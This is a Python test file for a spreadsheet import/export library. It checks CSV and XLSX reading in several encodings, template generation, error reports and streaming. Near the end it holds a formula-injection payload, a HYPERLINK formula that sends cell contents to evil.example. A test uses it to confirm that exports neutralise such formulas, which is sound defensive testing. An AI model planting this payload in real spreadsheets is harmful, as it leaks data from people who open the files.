import datetime as dt
import io

import pytest
from openpyxl import Workbook, load_workbook

from quanyu.core.spreadsheets import (
    Column,
    RowError,
    SpreadsheetError,
    append_row,
    read_errors,
    read_rows,
    sheet_names,
    write_errors,
    write_rows,
    write_sheets,
    write_template,
    write_template_sheets,
)

COLUMNS = [
    Column("name", "名称", required=True, example="毓璜顶社区"),
    Column("code", "代码", example="370602001001"),
    Column("population", "人口", aliases=("常住人口",)),
]


def test_csv_with_utf8_bom(tmp_path):
    path = tmp_path / "a.csv"
    path.write_bytes("\ufeff名称,代码,人口\n向阳社区,370602001001,8500\n".encode())
    assert list(read_rows(path, COLUMNS)) == [
        (2, {"name": "向阳社区", "code": "370602001001", "population": "8500"})
    ]


def test_csv_in_gbk(tmp_path):
    path = tmp_path / "a.csv"
    path.write_bytes("名称,代码,常住人口\n芝罘区向阳街道,,12\n".encode("gbk"))
    assert list(read_rows(path, COLUMNS)) == [(2, {"name": "芝罘区向阳街道", "code": "", "population": "12"})]


def test_csv_in_an_unknown_encoding(tmp_path):
    path = tmp_path / "a.csv"
    path.write_bytes(b"\xff\xfe\x00\xd8\x00\xd8")
    with pytest.raises(SpreadsheetError, match="编码"):
        list(read_rows(path, COLUMNS))


def test_xlsx_rows_keep_their_numbers_and_types(tmp_path):
    book = Workbook()
    sheet = book.active
    sheet.append(["代码", " 名称* ", "备注"])
    sheet.append([370602001001.0, " 向阳社区 ", "x"])
    sheet.append([None, None, None])
    sheet.append(["", "   ", ""])
    sheet.append([None, "东山社区", dt.datetime(2024, 1, 2)])
    path = tmp_path / "a.xlsx"
    book.save(path)
    rows = list(read_rows(path, COLUMNS))
    assert rows == [
        (2, {"name": "向阳社区", "code": 370602001001, "population": ""}),
        (5, {"name": "东山社区", "code": "", "population": ""}),
    ]


def test_paths_and_uploads_give_the_same_records(tmp_path):
    book = Workbook()
    sheet = book.active
    sheet.title = "名册"
    sheet.append(["名称", "人口", "代码", "多余"])
    sheet.append(["向阳社区", 8500, True, "x"])
    sheet.append(["东山社区", 12.5, dt.date(2024, 2, 29)])  # a short row: missing cells are ''
    sheet.append([None, None, None, None])
    sheet["A6"] = "世回尧社区"
    sheet["B6"] = dt.datetime(2024, 1, 2, 8, 30)
    other = book.create_sheet("其他")
    other.append(["名称"])
    other.append(["只在第二张表"])
    path = tmp_path / "a.xlsx"
    book.save(path)
    expected = [
        (2, {"name": "向阳社区", "population": 8500, "code": True}),
        (3, {"name": "东山社区", "population": 12.5, "code": dt.datetime(2024, 2, 29)}),
        (6, {"name": "世回尧社区", "population": dt.datetime(2024, 1, 2, 8, 30), "code": ""}),
    ]

    def comparable(rows):
        # calamine gives dates for whole days: compare as datetimes
        def norm(v):
            return dt.datetime.combine(v, dt.time()) if type(v) is dt.date else v

        return [(n, {k: norm(v) for k, v in r.items()}) for n, r in rows]

    assert comparable(read_rows(path, COLUMNS)) == expected
    upload = io.BytesIO(path.read_bytes())
    assert comparable(read_rows(upload, COLUMNS)) == expected
    assert list(read_rows(path, COLUMNS, sheet="其他")) == [
        (2, {"name": "只在第二张表", "code": "", "population": ""})
    ]


def test_missing_required_header_and_sheet(tmp_path):
    book = Workbook()
    book.active.title = "区域"
    book.active.append(["代码"])
    path = tmp_path / "a.xlsx"
    book.save(path)
    with pytest.raises(SpreadsheetError, match="缺少必填列：名称"):
        list(read_rows(path, COLUMNS))
    with pytest.raises(SpreadsheetError, match="没有名为“单位”的工作表"):
        list(read_rows(path, COLUMNS, sheet="单位"))
    assert sheet_names(path) == ["区域"]


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("a.xlsx", b"plain text", "无法读取Excel文件"),
        ("a.xls", b"\xd0\xcf\x11\xe0", ".xls"),
        ("missing.xlsx", None, "文件不存在"),
        ("missing.csv", None, "文件不存在"),
    ],
)
def test_unreadable_files(tmp_path, name, content, message):
    path = tmp_path / name
    if content is not None:
        path.write_bytes(content)
    with pytest.raises(SpreadsheetError, match=message):
        list(read_rows(path, COLUMNS))


def test_empty_file(tmp_path):
    path = tmp_path / "a.xlsx"
    Workbook().save(path)
    with pytest.raises(SpreadsheetError, match="空"):
        list(read_rows(path, COLUMNS))


def test_template_marks_required_columns_and_reads_back(tmp_path):
    path = tmp_path / "t.xlsx"
    write_template(path, COLUMNS, title="区域导入模板")
    sheet = load_workbook(path)["区域导入模板"]
    assert [c.value for c in sheet[1]] == ["名称*", "代码", "人口"]
    assert [c.value for c in sheet[2]][:2] == ["毓璜顶社区", "370602001001"]
    # the template itself is a valid input: headers with * are recognised
    assert [r for _n, r in read_rows(path, COLUMNS)] == [
        {"name": "毓璜顶社区", "code": "370602001001", "population": ""}
    ]


def test_multi_sheet_template_and_export(tmp_path):
    path = tmp_path / "t.xlsx"
    write_template_sheets(path, [("单位", COLUMNS[:1]), ("党组织", COLUMNS)])
    assert load_workbook(path).sheetnames == ["单位", "党组织"]
    out = tmp_path / "out.xlsx"
    assert write_sheets(out, [("一", COLUMNS, [{"name": "a"}, {"name": "b"}]), ("二", COLUMNS, [])]) == [2, 0]
    assert [r["name"] for _n, r in read_rows(out, COLUMNS, sheet="一")] == ["a", "b"]
    assert write_rows(out, COLUMNS, iter([{"name": "c", "population": 3}])) == 1
    assert list(read_rows(out, COLUMNS)) == [(2, {"name": "c", "code": "", "population": 3})]


def test_errors_round_trip_with_and_without_sheets(tmp_path):
    errors = [RowError(3, "名称", "名称不能为空"), RowError(7, "人口", "不能为负数")]
    path = tmp_path / "e.xlsx"
    write_errors(path, errors)
    assert [c.value for c in load_workbook(path).active[1]] == ["行号", "列", "原因"]
    assert read_errors(path) == errors
    with_sheets = [RowError(2, "类型", "未知", sheet="单位"), RowError(5, "", "整行有误", sheet="党组织")]
    write_errors(path, with_sheets)
    assert read_errors(path) == with_sheets
    assert str(with_sheets[0]) == "“单位”表第2行【类型】：未知"
    assert str(RowError(4, "geometry", "无效", noun="feature")) == "第4个要素【geometry】：无效"


def test_a_zip_that_is_not_a_workbook(tmp_path):
    import zipfile

    path = tmp_path / "a.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("xl/worksheets/sheet1.xml", "<<< not xml")
    with pytest.raises(SpreadsheetError, match="无法读取Excel文件"):
        list(read_rows(path, COLUMNS))


def _rewrite_sheet(path, xml: str) -> None:
    """The workbook at ``path`` with its first worksheet's XML replaced by ``xml``."""
    import zipfile

    with zipfile.ZipFile(path) as archive:
        parts = {info.filename: archive.read(info) for info in archive.infolist()}
    parts["xl/worksheets/sheet1.xml"] = xml.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def test_a_sheet_damaged_part_way_names_the_file_not_a_crash(tmp_path):
    path = tmp_path / "a.xlsx"
    Workbook().save(path)
    _rewrite_sheet(
        path,
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>名称</t></is></c></row>'
        '<row r="2"><c r="A2" t="inlineStr"><is><t>向阳社区</t></is></c></row>'
        '<row r="3"><c r="A3" t="inlineStr"><is><t>东山',
    )
    rows = read_rows(path, COLUMNS)
    with pytest.raises(SpreadsheetError, match="无法读取Excel文件"):
        list(rows)


def _open_by_us(path) -> bool:
    import os

    fds = os.listdir("/proc/self/fd")
    return any(os.path.realpath(f"/proc/self/fd/{fd}") == str(path.resolve()) for fd in fds)


def test_rows_are_read_as_they_are_asked_for_and_the_file_closes_early(tmp_path):
    """The sheet is streamed: a caller that stops after the first rows of a large sheet (an import
    that found a bad header, a preview) neither waits for the rest nor keeps the file open."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet("名册")
    sheet.append(["名称", "人口"])
    for i in range(20_000):
        sheet.append([f"社区{i}", i])
    path = tmp_path / "big.xlsx"
    book.save(path)
    rows = read_rows(path, COLUMNS)
    assert next(rows) == (2, {"name": "社区0", "code": "", "population": 0})
    assert next(rows) == (3, {"name": "社区1", "code": "", "population": 1})
    assert _open_by_us(path)
    rows.close()
    assert not _open_by_us(path)
    upload = io.BytesIO()
    book = Workbook()
    book.active.append(["名称"])
    book.active.append(["向阳社区"])
    book.save(upload)
    upload.seek(0)
    assert list(read_rows(upload, COLUMNS)) == [(2, {"name": "向阳社区", "code": "", "population": ""})]


def test_csv_streamed_utf8_and_gbk(tmp_path):
    columns = [Column("a", "甲", required=True), Column("b", "乙")]
    utf8 = tmp_path / "u.csv"
    utf8.write_bytes("\ufeff甲,乙\n 一 ,二\n,\n三\n".encode())
    assert list(read_rows(utf8, columns)) == [(2, {"a": "一", "b": "二"}), (4, {"a": "三", "b": ""})]
    gbk = tmp_path / "g.csv"
    gbk.write_bytes("甲,乙\n北京,上海\n".encode("gbk"))
    assert list(read_rows(gbk, columns)) == [(2, {"a": "北京", "b": "上海"})]


INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'


def test_text_starting_with_equals_is_written_as_text_not_a_formula(tmp_path):
    """Formula injection: a name typed as "=HYPERLINK(…)" must reach the office's spreadsheet as
    text; numbers stay numbers; our own import reads the text back unchanged."""
    path = tmp_path / "out.xlsx"
    write_rows(path, COLUMNS, [{"name": INJECTED, "code": "+1-2", "population": 8500}])
    cells = next(load_workbook(path).active.iter_rows(min_row=2))
    assert [(c.value, c.data_type) for c in cells] == [(INJECTED, "s"), ("+1-2", "s"), (8500, "n")]
    assert [r["name"] for _n, r in read_rows(path, COLUMNS)] == [INJECTED]
    errors = tmp_path / "errors.xlsx"
    write_errors(errors, [RowError(2, "名称", INJECTED)])
    assert {c.data_type for c in next(load_workbook(errors).active.iter_rows(min_row=2))} <= {"s", "n"}


def test_append_row_on_an_ordinary_sheet():
    book = Workbook()
    append_row(book.active, ["=1+1", 2])
    assert [(c.value, c.data_type) for c in book.active[1]] == [("=1+1", "s"), (2, "n")]
